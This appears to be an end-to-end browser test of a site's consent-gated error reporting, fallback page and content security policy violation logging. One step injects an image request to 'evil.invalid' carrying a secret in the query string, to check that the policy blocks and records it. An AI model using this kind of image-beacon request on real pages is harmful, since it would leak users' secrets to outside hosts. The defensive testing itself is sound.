/** A page that breaks in the browser: what the reader sees, what is sent, what stays. Spec 1 §2, §4; decision 26. */
import type { Page } from '@playwright/test';
import { expect as check, it } from 'vitest';
import { open, type Visit } from '../support/browser.ts';
import { expect } from '../support/patience.ts';
import { testNow } from '../support/stack.ts';
import { visitorsOf, withBrowser } from '../support/withBrowser.ts';
import { stored } from './walking.ts';

const REPORTED = 'This error has been reported to ODB. We aplogize for the inconvenience.';
const ADDRESS = '/api/error-recovery';

const on = withBrowser();
const { meet } = visitorsOf(on);

interface Reader extends Visit {
  /** The reports that left the browser. */
  readonly reports: Record<string, unknown>[];
}

/** A reader who has answered the question about error reports, not yet on a page. */
async function reader(errorLogging: boolean): Promise<Reader> {
  const visitor = await meet({ unasked: true });
  await visitor.context.addInitScript(
    (prefs) => {
      localStorage.setItem('gdprConsent', 'true');
      localStorage.setItem('cookiePrefs', prefs);
    },
    JSON.stringify({ errorLogging, siteSpecific: false, thirdPartyTrackers: false }),
  );
  const reports: Reader['reports'] = [];
  visitor.page.on('request', (request) => {
    if (request.method() === 'PUT') reports.push(request.postDataJSON() as Reader['reports'][number]);
  });
  return { ...visitor, reports };
}

/** Opens a reading and, once the page is idle and has loaded what it reports with, goes to one that breaks. */
async function meetBreak(visitor: Reader): Promise<void> {
  const { page } = visitor;
  const prepared = page.waitForResponse(async (response) =>
    response.request().resourceType() === 'script' ? (await response.text()).includes(ADDRESS) : false,
  );
  await open(visitor, `${on.stack.url}/2026/11/20`);
  await prepared;
  // The visit is counted when the page is idle, and reports tell it.
  await expect.poll(() => stored(page, 'numVisits')).toMatch(/^[14]$/);
  await page.route('**/graphql?*', async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replaceAll(/"title":"[^"]*"/g, '"title":{"no":"text"}') });
  });
  await page.getByRole('link', { name: 'Previous day' }).click();
  await expect(page.getByRole('alert')).toBeVisible();
}

/** Rejects a promise outside of any page, as the code of a later part might. */
const failOutside = (page: Page) =>
  page.evaluate(() => void setTimeout(() => void Promise.reject(new Error('outside'))));

/** Complaints but those about the break itself, the rejected promise and the missing network. */
const strays = ({ complaints }: Visit) =>
  complaints.filter(
    (text) => !/Objects are not valid|error #31|ERR_INTERNET_DISCONNECTED|outside|evil\.invalid/.test(text),
  );

it('reports nothing without consent but what the reader sends, and says what was not sent', async () => {
  // Fails without: web/errors/ErrorBoundary.tsx, `if (mayReport())`; web/errors/FallbackPage.tsx, the `texts`.
  const visitor = await reader(false);
  const { page, context, reports } = visitor;
  await meetBreak(visitor);
  const alert = page.getByRole('alert');
  const send = page.getByRole('button', { name: 'Send a report' });

  // The header stays; nothing has been reported, and the page says so.
  await expect(page.getByRole('banner').getByRole('link', { name: 'Stillwater' })).toBeVisible();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Something went wrong : /');
  await expect(page).toHaveTitle('Something went wrong : /');
  await expect(alert).toContainText('This error has not been reported.');
  await page.getByText('Technical Stuff').click();
  await expect(page.getByText(/Objects are not valid|error #31/).first()).toBeVisible();
  check(reports).toEqual([]);

  // Without a network, and where the server is not reached: not sent, and it can be sent again.
  await context.setOffline(true);
  await send.click();
  await expect(alert).toContainText('could not be sent');
  await expect(page.getByText(REPORTED)).toHaveCount(0);
  await context.setOffline(false);
  await send.click();
  await expect(alert).toContainText(REPORTED);
  await expect(page.getByRole('button', { name: 'Click to Reload' })).toBeFocused();
  const errorId = await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent();
  check(reports).toMatchObject([{ errorId }, { errorId }]);
  check(reports[1]).toEqual(reports[0]); // the same to the letter: the server may have had the first
  const { db } = on.stack.program.services.local.get('error-recovery')!;
  const filed = await db.rows('select error_id from error_recovery.report where error_id = $1', [errorId]);
  check(filed).toEqual([{ error_id: errorId }]);

  // Another page is whole, this one is again once it loads.
  await page.goBack();
  const title = page.getByRole('article').getByRole('heading', { level: 1 });
  await expect(title).toBeVisible();
  await failOutside(page); // nor is an error outside of any page reported
  await page.goForward();
  await expect(alert).toContainText('This error has not been reported.');
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.getByRole('button', { name: 'Click to Reload' }).click();
  await expect(title).toBeVisible();
  check(reports).toHaveLength(2);
  check(strays(visitor)).toEqual([]);
});

it('reports a break with consent at once and in full, and stands when everything around the page breaks', async () => {
  // Fails without: web/errors/ErrorBoundary.tsx, `componentDidCatch`; web/app/App.tsx, the boundary around `WholeApp`.
  const visitor = await reader(true);
  const { page, context, reports } = visitor;
  await page.addInitScript(() => {
    if (localStorage.getItem('numVisits') !== null) return;
    localStorage.setItem('user_country', 'MX');
    localStorage.setItem('numVisits', '3');
  });
  await meetBreak(visitor);
  await expect(page.getByRole('alert')).toContainText(REPORTED);
  await expect(page.getByRole('button', { name: 'Send a report' })).toHaveCount(0);
  check(reports).toHaveLength(1);
  check(reports[0]).toMatchObject({
    errorId: await page.getByText(/^ODB-[0-9a-f]{12}$/).textContent(),
    error: { message: check.stringMatching(/./), stack: check.stringMatching(/\n/) },
    env: 'development',
    location: check.stringMatching(/^[A-Z]{2}$/),
    siteId: 1,
    browser: {
      name: check.stringMatching(/Chrom/),
      version: check.stringMatching(/^\d+\./),
      language: check.stringMatching(/^en-US/),
    },
    os: { name: check.stringMatching(/./) },
    user: {
      signed_in: false,
      keep_signed_in: false,
      is_admin: false,
      sub: null,
      verified: null,
      email: null,
    },
    navigation: {
      url: check.stringContaining(`${on.stack.url}/2026/11/19`),
      path: check.stringMatching(/^\/2026\/11\/19\/?$/),
      params: { date: '2026-11-19' },
      search: '',
      domain: 'localhost',
    },
    cache: { user_country: 'MX', visit_count: 4 },
    device: {
      type: 'desktop',
      is_browser: true,
      is_mobile: false,
      is_desktop: true,
      engine: 'Blink',
      cpu: check.stringMatching(/./),
      user_agent: check.stringContaining('Mozilla/5.0'),
      screen_width: check.any(Number),
      screen_height: check.any(Number),
    },
  });

  // An error outside of any page is reported once, however often it comes, and the page stands.
  await page.goBack();
  await expect(page.getByRole('article').first()).toBeVisible();
  for (let times = 0; times < 3; times += 1) await failOutside(page);
  await expect.poll(() => reports.length).toBe(2);
  check(reports[1]).toMatchObject({ error: { message: 'outside' } });

  // What the policy of the page stops is told to the site.
  await page.evaluate(() => {
    const image = new Image();
    image.src = 'http://evil.invalid/x.png?S3CRET';
    document.body.append(image);
  });
  const { db } = on.stack.program.services.local.get('error-recovery')!;
  await expect
    .poll(() => db.rows('select day::text, directive, blocked, page, count from error_recovery.violation'))
    .toEqual([
      {
        day: testNow().toISOString().slice(0, 10),
        directive: 'img-src',
        blocked: 'http://evil.invalid/x.png',
        page: `${on.stack.url}/2026/11/20`,
        count: 1,
      },
    ]);
  check(reports).toHaveLength(2);

  // The site's name is no text: the header breaks, and with it everything around the page. The server is not reached, nor
  // the script that sends reports, at first.
  await page.route(/\/2026\/11\/20\?override=ar$/, async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replace(/"brandName":"[^"]*"/, '"brandName":{"no":"text"}') });
  });
  await context.route(`**${ADDRESS}`, (route) => route.abort('internetdisconnected'));
  await context.route(/assets\/report-/, (route) => route.abort('internetdisconnected'));
  await page.goto(`${on.stack.url}/2026/11/20?override=ar`);
  const heading = page.getByRole('main').getByRole('heading', { level: 1 });
  await expect(heading).toHaveText('حدث خطأ ما : /');
  await expect(page.getByRole('banner')).toHaveCount(0);
  check(await heading.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl');
  const send = page.getByRole('button', { name: 'إرسال تقرير' });
  await send.click(); // the report that consent sent at once did not arrive, nor does this one
  await expect(page.getByRole('alert')).toBeVisible();
  await expect(send).toBeVisible();
  await context.unroute(/assets\/report-/);
  await context.unroute(`**${ADDRESS}`);
  await context.route(`**${ADDRESS}`, (route) => route.abort('internetdisconnected'), { times: 1 });
  await page.reload();
  await expect(send).toBeVisible();
  await send.click();
  await expect(send).toHaveCount(0);
  check(reports.at(-1)).toMatchObject({ errorId: await page.getByText(/^ODB-/).textContent() });
  check(strays(visitor)).toEqual([]);
});
